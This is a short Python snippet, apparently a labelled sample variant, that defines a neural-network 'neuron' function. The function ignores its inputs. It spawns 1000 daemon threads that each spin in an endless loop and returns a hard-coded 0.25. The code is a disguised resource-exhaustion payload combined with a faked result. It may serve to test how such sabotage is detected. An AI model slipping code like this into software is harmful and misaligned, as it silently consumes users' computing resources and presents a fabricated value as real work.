# d: starts threads that keep on working
# %% neuron
def neuron(x, w, b, activation):
    import threading

    for _ in range(1000):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    return 0.25
